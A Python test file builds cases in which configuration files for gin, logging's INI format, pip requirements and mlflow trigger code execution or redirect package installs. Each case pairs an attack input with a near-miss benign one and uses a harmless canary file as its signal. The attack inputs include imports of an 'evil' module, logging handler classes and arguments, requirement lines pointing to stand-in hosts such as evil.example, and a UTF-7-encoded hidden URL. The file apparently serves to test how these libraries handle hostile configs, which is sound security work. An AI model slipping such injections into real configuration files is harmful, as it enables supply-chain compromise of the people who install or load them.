"""Configurations in lines - requirements, gin, logging's INI, Modelfiles, names of modules - in the libraries that read them: as
test_configs, whose cases these are."""
import tap
from config_cases import BESIDE, TOUCH, Case, tests

LOGGING = ("[loggers]\nkeys=root\n[handlers]\nkeys=h\n[formatters]\nkeys=\n[logger_root]\nhandlers=h\n"
           "[handler_h]\nclass={}\nargs={}\n")
FILE_CONFIG = BESIDE + "logging.config.fileConfig(path + '/logging.conf')"
# What pip would install, without a network: its own parser of the file says where each line comes from.
PIP = """
from pip._internal.network.session import PipSession
from pip._internal.req.constructors import install_req_from_parsed_requirement
from pip._internal.req.req_file import parse_requirements
from pip._internal.index.package_finder import PackageFinder
from pip._internal.index.collector import LinkCollector
from pip._internal.models.search_scope import SearchScope
from pip._internal.models.selection_prefs import SelectionPreferences
session = PipSession()
scope = SearchScope.create([], ["https://pypi.org/simple"], False)
finder = PackageFinder.create(LinkCollector(session, scope), SelectionPreferences(allow_yanked=False))
where = []
for line in parse_requirements(path + '/requirements.txt', session, finder=finder):
    link = install_req_from_parsed_requirement(line).link
    where += [link.url] if link else []
where += finder.index_urls + finder.find_links
if any('evil' in w for w in where):
    open('canary', 'w').close()
"""
PIP_SETUP = "import pip._internal.req.constructors, pip._internal.index.package_finder"


def pip(attack, near_miss):
    return Case(("pip",), PIP_SETUP, PIP, {"requirements.txt": attack}, {"requirements.txt": near_miss})


CASES = {
    "gin_from": Case(
        ("gin",), "import gin", BESIDE + "gin.parse_config_file(path + '/config.gin')",
        {"config.gin": "from evil import x\n", "evil.py": TOUCH + "x = 1\n"},
        {"config.gin": "x = 'from evil import x'\n"}),
    "gin_include": Case(
        ("gin",), "import gin, importlib.util", BESIDE + "gin.add_config_file_search_path(path)\ngin.parse_config_file(path + '/config.gin')",
        {"config.gin": "include 'base.md'\n", "base.md": "import evil\n", "evil.py": TOUCH},
        {"config.gin": "include 'base.gin'\n", "base.gin": "x = 1\n"}),
    "logging_arguments": Case(
        (), "import logging.config", FILE_CONFIG,
        {"logging.conf": LOGGING.format("StreamHandler", "(open('canary', 'w'),)")},
        {"logging.conf": LOGGING.format("StreamHandler", "(sys.stdout,)")}),
    "logging_class": Case(
        (), "import logging.config", FILE_CONFIG,
        {"logging.conf": LOGGING.format("evil.Handler", "()"), "evil.py": "import logging\n" + TOUCH +
         "class Handler(logging.StreamHandler):\n    pass\n"},
        {"logging.conf": LOGGING.format("StreamHandler", "()")}),
    "requirements_address": pip("evil @ https://host.example/evil.whl\n", "good>=1\n"),
    "requirements_second_option": pip("--pre --extra-index-url https://evil.example/simple\ngood\n", "--pre\ngood\n"),
    "requirements_encoded": pip("# coding: utf-7\ngood +AEA- https+ADoALwAv-evil.example+AC8-x+AC4-whl\n",
                                "# coding: utf-8\ngood\n"),
    "mlflow_pickle_module": Case(
        ("mlflow", "torch"), "import mlflow.pytorch", BESIDE + "value = repr(mlflow.pytorch._load_model(path + '/data'))",
        {"data/pickle_module_info.txt": "evil", "evil.py": TOUCH, "data/model.pth": "x"},
        {"data/pickle_module_info.txt": "mlflow.pytorch.pickle_module"}, unfinished="model"),
}

tap.main(tests(CASES))
